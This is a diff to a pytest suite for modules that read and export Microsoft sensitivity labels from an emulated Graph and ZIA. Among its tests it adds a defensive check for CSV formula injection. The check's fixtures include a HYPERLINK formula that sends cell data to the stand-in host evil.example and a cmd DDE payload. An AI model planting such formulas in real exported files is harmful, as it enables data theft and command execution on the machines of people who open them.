@@ -1,4 +1,4 @@
-"""mip_labels_info against the emulated Graph label store and ZIA."""
+"""mip_labels_info and mip_labels_export against the emulated Graph label store and ZIA."""
 
 import csv
 import json
@@ -8,6 +8,7 @@ import stat
 import pytest
 
 LABELS = "mipconnect.zia.mip_labels_info"
+EXPORT = "mipconnect.zia.mip_labels_export"
 MIP = "mipconnect.zia.mip_account"
 
 
@@ -16,8 +17,8 @@ def reader(tenant, role):
     return tenant.emulator.create_client(tenant.tenant_id, graph_roles=[role] if role else [])
 
 
-def run_labels(tenant, args, client, **kwargs):
-    return tenant.run_module(args, module=LABELS, client=client, **kwargs)
+def run_labels(tenant, args, client, module=LABELS, **kwargs):
+    return tenant.run_module(args, module=module, client=client, **kwargs)
 
 
 def assert_ok(run):
@@ -142,21 +143,38 @@ def test_forbidden_endpoint_says_which_permission(tenant):
     assert "SensitivityLabels.Read.All" in run.result["msg"]
 
 
+def test_info_changes_nothing_and_refuses_the_export_options(tenant):
+    client = reader(tenant, "InformationProtectionPolicy.Read.All")
+    run = run_labels(tenant, {"return_tree": True}, client)
+    assert_ok(run)
+    assert run.result["changed"] is False
+    assert run.result["count"] == len(tenant.emulator.labels(tenant.tenant_id))
+    assert "files" not in run.result
+    csv_path = tenant.tmp_path / "labels.csv"
+    refused = run_labels(tenant, {"csv_path": str(csv_path)}, client)
+    assert refused.result["failed"] and "csv_path" in refused.result["msg"]
+    assert not csv_path.exists() and refused.requests == []
+
+
 def test_csv_and_json_written_once_then_unchanged(tenant):
     client = reader(tenant, "InformationProtectionPolicy.Read.All")
     csv_path = str(tenant.tmp_path / "labels.csv")
     json_path = str(tenant.tmp_path / "labels.json")
-    args = {"csv_path": csv_path, "json_path": json_path, "return_labels": False}
+    args = {"csv_path": csv_path, "json_path": json_path}
 
-    planned = run_labels(tenant, args, client, check=True)
+    planned = run_labels(tenant, args, client, module=EXPORT, check=True, diff=True)
     assert_ok(planned)
     assert planned.result["changed"] is True
     assert not os.path.exists(csv_path) and not os.path.exists(json_path)
+    assert planned.result["diff"]["before"] == {csv_path: None, json_path: None}
+    assert planned.result["diff"]["after"][csv_path]["mode"] == "0640"
 
-    first = run_labels(tenant, args, client)
+    first = run_labels(tenant, args, client, module=EXPORT, diff=True)
     assert_ok(first)
     assert first.result["changed"] is True
     assert "labels" not in first.result
+    # Check mode predicted exactly the content the real run wrote.
+    assert first.result["diff"]["after"] == planned.result["diff"]["after"]
     for path in (csv_path, json_path):
         assert stat.S_IMODE(os.stat(path).st_mode) == 0o640
     with open(csv_path, encoding="utf-8", newline="") as handle:
@@ -169,7 +187,7 @@ def test_csv_and_json_written_once_then_unchanged(tenant):
     # source: graph without account_name: the Account Name column names the Entra tenant read.
     assert {row["Account Name"] for row in rows} == {tenant.tenant_id.lower()}
 
-    second = run_labels(tenant, args, client)
+    second = run_labels(tenant, args, client, module=EXPORT)
     assert_ok(second)
     assert second.result["changed"] is False
     assert all(not f["changed"] for f in second.result["files"])
@@ -178,20 +196,20 @@ def test_csv_and_json_written_once_then_unchanged(tenant):
     with open(csv_path, "rb") as handle:
         content = handle.read()
     os.chmod(csv_path, 0o644)
-    planned_mode = run_labels(tenant, args, client, check=True)
+    planned_mode = run_labels(tenant, args, client, module=EXPORT, check=True)
     assert_ok(planned_mode)
     assert [(f["path"], f["changed"]) for f in planned_mode.result["files"]] == [(csv_path, True), (json_path, False)]
     assert stat.S_IMODE(os.stat(csv_path).st_mode) == 0o644
-    fixed_mode = run_labels(tenant, args, client)
+    fixed_mode = run_labels(tenant, args, client, module=EXPORT)
     assert_ok(fixed_mode)
     assert fixed_mode.result["changed"] is True
     assert stat.S_IMODE(os.stat(csv_path).st_mode) == 0o640
     with open(csv_path, "rb") as handle:
         assert handle.read() == content
-    assert run_labels(tenant, args, client).result["changed"] is False
+    assert run_labels(tenant, args, client, module=EXPORT).result["changed"] is False
 
     tenant.emulator.rename_label(tenant.tenant_id, rows[0]["Label ID"], "Renamed label")
-    third = run_labels(tenant, args, client)
+    third = run_labels(tenant, args, client, module=EXPORT)
     assert third.result["changed"] is True
     assert [f["changed"] for f in third.result["files"]] == [True, True]
 
@@ -238,9 +256,8 @@ def test_active_and_appliable_filters_exclude_what_they_should(tenant):
 
 def test_many_labels_over_many_pages(tenant):
     tenant.emulator.seed_labels(tenant.tenant_id, count=300, sublabels_per_label=2)
-    run = run_labels(tenant, {"page_size": 50, "return_labels": False,
-                              "csv_path": str(tenant.tmp_path / "many.csv")},
-                     reader(tenant, "InformationProtectionPolicy.Read.All"))
+    run = run_labels(tenant, {"page_size": 50, "csv_path": str(tenant.tmp_path / "many.csv")},
+                     reader(tenant, "InformationProtectionPolicy.Read.All"), module=EXPORT)
     assert_ok(run)
     assert run.result["count"] == 900
     pages = [r for r in run.requests if "sensitivityLabels" in r["path"]]
@@ -286,14 +303,67 @@ def test_drift_between_microsoft_and_zia(tenant, emulator):
     assert "no MIP account with id 999999999" in unknown.result["msg"]
 
 
-@pytest.mark.parametrize("args, option", [
-    ({"source": "zia"}, "account_name"),
-    ({"name_pattern": "("}, "name_pattern"),
-    ({"csv_path": "/nonexistent-dir/labels.csv"}, "csv_path"),
-    ({"page_size": 0}, "page_size"),
+@pytest.mark.parametrize("module, args, option", [
+    (LABELS, {"source": "zia"}, "account_name"),
+    (LABELS, {"name_pattern": "("}, "name_pattern"),
+    (EXPORT, {"csv_path": "/nonexistent-dir/labels.csv"}, "csv_path"),
+    (EXPORT, {"json_path": "/tmp/labels.json", "page_size": 0}, "page_size"),
 ])
-def test_bad_input_fails_before_any_request(tenant, args, option):
-    run = run_labels(tenant, args, reader(tenant, None))
+def test_bad_input_fails_before_any_request(tenant, module, args, option):
+    run = run_labels(tenant, args, reader(tenant, None), module=module)
     assert run.result["failed"]
     assert option in run.result["msg"]
     assert run.requests == []
+
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+            "\tTabbed", "\rReturned"]
+
+
+def test_csv_cells_that_start_a_formula_are_neutralised_json_stays_exact(tenant):
+    tenant.emulator.add_labels(tenant.tenant_id, [{"name": name} for name in FORMULAS])
+    client = reader(tenant, "InformationProtectionPolicy.Read.All")
+    csv_path, json_path = str(tenant.tmp_path / "labels.csv"), str(tenant.tmp_path / "labels.json")
+    run = run_labels(tenant, {"csv_path": csv_path, "json_path": json_path, "name_pattern": r"^[=+\-@\t\r]"},
+                     client, module=EXPORT)
+    assert_ok(run)
+    with open(csv_path, encoding="utf-8", newline="") as handle:
+        names = [row["Label Name"] for row in csv.DictReader(handle)]
+    assert sorted(names) == sorted("'" + name for name in FORMULAS)
+    with open(json_path, encoding="utf-8") as handle:
+        assert sorted(label["name"] for label in json.load(handle)) == sorted(FORMULAS)
+
+    exact = run_labels(tenant, {"csv_path": csv_path, "csv_escape_formulas": False, "name_pattern": r"^[=+\-@\t\r]"},
+                       client, module=EXPORT)
+    assert_ok(exact)
+    assert exact.result["changed"] is True
+    with open(csv_path, encoding="utf-8", newline="") as handle:
+        assert sorted(row["Label Name"] for row in csv.DictReader(handle)) == sorted(FORMULAS)
+
+
+@pytest.mark.parametrize("cloud, roles, endpoint", [
+    ("public", ["InformationProtectionPolicy.Read.All"], "beta"),
+    ("usgov_dod", ["InformationProtectionPolicy.Read.All", "SensitivityLabels.Read.All"], "v1.0"),
+])
+def test_a_guests_labels_in_each_cloud(tenant_in, cloud, roles, endpoint):
+    """A guest's UPN holds '#': it must reach Graph whole. US Government has only v1.0, whose per-user
+    path has no /security segment; beta is not asked there even with its permission."""
+    tenant = tenant_in(cloud)
+    guest = next(u for u in tenant.state()["users"] if "#EXT#" in u["userPrincipalName"])
+    client = tenant.emulator.create_client(tenant.tenant_id, graph_roles=roles)
+    run = run_labels(tenant, {"user_id": guest["userPrincipalName"]}, client)
+    assert_ok(run)
+    assert run.result["endpoint"] == endpoint
+    assert run.result["count"] == len(tenant.emulator.labels(tenant.tenant_id))
+    asked = [r["path"] for r in run.requests if r["service"] == "graph"]
+    assert asked and all(guest["userPrincipalName"] in path for path in asked)
+    assert {path.split("/")[2] for path in asked} == {endpoint}
+
+
+def test_china_has_no_graph_labels_and_says_to_read_zia(tenant_in):
+    tenant = tenant_in("china")
+    client = tenant.emulator.create_client(tenant.tenant_id, graph_roles=["SensitivityLabels.Read.All"])
+    run = run_labels(tenant, {}, client)
+    assert run.result["failed"]
+    assert "China" in run.result["msg"] and "source: zia" in run.result["error"]["hint"]
+    assert not [r for r in run.requests if r["service"] == "graph"]
